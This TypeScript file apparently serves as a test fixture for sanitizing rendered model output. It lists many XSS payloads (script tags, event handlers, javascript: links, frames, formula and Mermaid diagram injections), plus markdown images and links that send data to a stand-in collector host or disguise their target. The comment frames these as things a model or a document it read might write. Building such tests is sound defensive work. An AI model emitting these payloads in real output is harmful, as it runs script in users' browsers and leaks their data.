// What a model, or a document it has read, may write to run a script in the reader's page, to call another server, or
// to mislead the reader. `RUN` is the script; `OUT` is the third-party server.

const RUN = 'window.hasRun=1;alert(1)';
const OUT = 'https://collector.example';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${OUT}.js></SCRIPT>`,
  `<script\u0020/type="module">${RUN}</script >`,
  `<<script>${RUN}//<</script>`,
  `</p><script>${RUN}</script><p>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<textarea><script>${RUN}</script></textarea>`,
  `<title><script>${RUN}</script></title>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x:x onerror=${RUN}//`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<image src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math href="javascript:${RUN}">click</math>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<video><source onerror="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div style="animation:x 1s" onanimationstart="${RUN}">x</div>`,
  `<div onpointerover="${RUN}" style="position:fixed;inset:0">x</div>`,
  `<button popovertarget=x>a</button><div popover id=x onbeforetoggle="${RUN}">b</div>`,
  `<custom-thing autofocus tabindex=1 onfocus="${RUN}">`,
  `<p contenteditable onblur="${RUN}">x</p>`,
  `<style>@import '${OUT}.css';</style>`,
  `<style>p{background:url(${OUT})}</style>`,
  `<p style="background-image:url(${OUT})">x</p>`,
];

const FRAMES = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.hasRun=1</script>"></iframe>`,
  `<iframe src="${OUT}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${OUT}"></object>`,
  `<embed src="${OUT}">`,
  `<applet code="${OUT}"></applet>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<portal src="${OUT}"></portal>`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<base href="${OUT}/">`,
  `<link rel="stylesheet" href="${OUT}.css">`,
  `<link rel="prefetch" href="${OUT}"><link rel="dns-prefetch" href="//collector.example">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<dialog open><form method=dialog action="${OUT}"></form></dialog>`,
];

const LINKS = [
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](javascript&colon;${RUN})`,
  `[click](java\u0009script:${RUN})`,
  `[click](java&#10;script:${RUN})`,
  `[click](\u0001javascript:${RUN})`,
  `[click](<javascript:${RUN}>)`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](blob:https://collector.example/1)`,
  `[click](file:///etc/passwd)`,
  `[click](view-source:${OUT})`,
  `[click](intent://x#Intent;scheme=javascript;end)`,
  `<javascript:${RUN}>`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `[click](javascript:${RUN} "title")`,
  `[https://bank.example](${OUT})`,
  `[\u202egnp.exe](${OUT})`,
  `[click](//collector.example)`,
  `[![x](javascript:${RUN})](javascript:${RUN})`,
  `<a href="javascript:${RUN}" target=_self>click</a>`,
  `[^1]\n\n[^1]: [x](javascript:${RUN})`,
  `[click](#/login?returnTo=javascript:${RUN})`,
];

const PICTURES = [
  `![x](${OUT}.png)`,
  `![x](//collector.example.png)`,
  `![x](${OUT}.png?leak=secret "title")`,
  `![x][y]\n\n[y]: ${OUT}.png`,
  `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>)`,
  `![x](javascript:${RUN})`,
  `![<img src=x onerror="${RUN}">](${OUT})`,
  `![x](http://127.0.0.1:1/x.png)`,
  `| a |\n|---|\n| ![x](${OUT}.png) <img src=x onerror="${RUN}"> |`,
  `- [ ] ![x](${OUT}.gif)\n- [x] <img src=${OUT}>`,
  `# ![x](${OUT}.png)`,
  `> ![x](${OUT}.png)`,
  `~~![x](${OUT}.png)~~ **![y](${OUT}.png)**`,
];

const FORMULAS = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\url{javascript:${RUN}}$`,
  `$$\\includegraphics{${OUT}.png}$$`,
  `$\\htmlData{x=1}{y} \\htmlStyle{background:url(${OUT})}{z}$`,
  `$$\\def\\x{\\x\\x}\\x$$`,
  `$<img src=x onerror="${RUN}">$`,
  `$$\\text{<script>${RUN}</script>}$$`,
];

const CODE = [
  `\`\`\`"><img src=x onerror="${RUN}">\nx\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`js\n</code></pre><img src=x onerror="${RUN}">\n\`\`\``,
  `\`<img src=x onerror="${RUN}">\``,
];

const DIAGRAMS = [
  `flowchart LR\n  A["<img src=x onerror='${RUN}'>"] --> B`,
  `flowchart LR\n  A --> B\n  click A href "javascript:${RUN}" _self`,
  `flowchart LR\n  A --> B\n  click A call alert(1)`,
  `%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "*{background:url(${OUT})}"}}%%\nflowchart LR\n  A["<script>${RUN}</script>"] --> B["<iframe src='${OUT}'></iframe>"]`,
  `sequenceDiagram\n  A->>B: <img src=${OUT} onerror=${RUN}>\n  link A: x @ javascript:${RUN}`,
  `classDiagram\n  class A["<svg onload='${RUN}'>"]\n  click A href "javascript:${RUN}"`,
];

/** The texts, with `collector` as the server that must not receive a request. */
export function listPayloads(collector: string): readonly string[] {
  const all = [...SCRIPTS, ...HANDLERS, ...FRAMES, ...LINKS, ...PICTURES, ...FORMULAS, ...CODE];
  return all.map((payload) => withCollector(payload, collector));
}

export function listHostileDiagrams(collector: string): readonly string[] {
  return DIAGRAMS.map((payload) => withCollector(payload, collector));
}

function withCollector(payload: string, collector: string): string {
  return payload.replaceAll('//collector.example', `//${collector}`);
}
